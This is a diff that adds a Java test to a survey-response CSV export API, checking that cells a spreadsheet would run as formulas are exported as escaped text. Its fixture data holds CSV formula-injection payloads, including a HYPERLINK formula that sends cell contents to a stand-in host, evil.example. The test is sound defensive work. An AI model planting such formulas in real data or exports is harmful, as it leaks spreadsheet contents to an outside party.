@@ -63,6 +63,25 @@ class ExportTest {
         assertThat(lines.subList(1, lines.size())).allSatisfy(line -> assertThat(line).startsWith("sipas-2025,1," + agency));
     }
 
+    @Test
+    void cellsASpreadsheetWouldRunAsAFormulaAreExportedAsText() {
+        String agency = Fixtures.uniqueAgency();
+        Fixtures.agencies(agency);
+        List<String> procedures = List.of("=HYPERLINK(\"https://evil.example/?\"&A2,\"Chi tiết\")", "+1+1", "-2+3", "@SUM(A1:A9)");
+        submit(procedures.stream().map(procedure -> {
+            SurveyResponseSubmitted r = Fixtures.response(agency, Instant.parse("2016-03-01T02:00:00Z"), 4);
+            return new SurveyResponseSubmitted(r.responseId(), r.questionnaireId(), r.questionnaireVersion(), null, null, agency, procedure,
+                    r.channel(), r.submittedAt(), r.answers(), r.expectations(), r.respondent());
+        }).toList());
+
+        String csv = new String(Fixtures.asCoordinator().queryParam("questionnaireId", "sipas-2025").queryParam("version", 1)
+                .queryParam("from", "2016-03-01").queryParam("to", "2016-03-01").queryParam("agency", agency)
+                .get("/api/v1/exports/responses.csv").then().statusCode(200).extract().asByteArray(), StandardCharsets.UTF_8);
+
+        assertThat(csv).contains("," + agency + ",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"Chi tiết\"\")\",counter,",
+                "," + agency + ",'+1+1,counter,", "," + agency + ",'-2+3,counter,", "," + agency + ",'@SUM(A1:A9),counter,");
+    }
+
     private static List<String> lines(byte[] csv) {
         return List.of(new String(csv, StandardCharsets.UTF_8).split("\r\n"));
     }
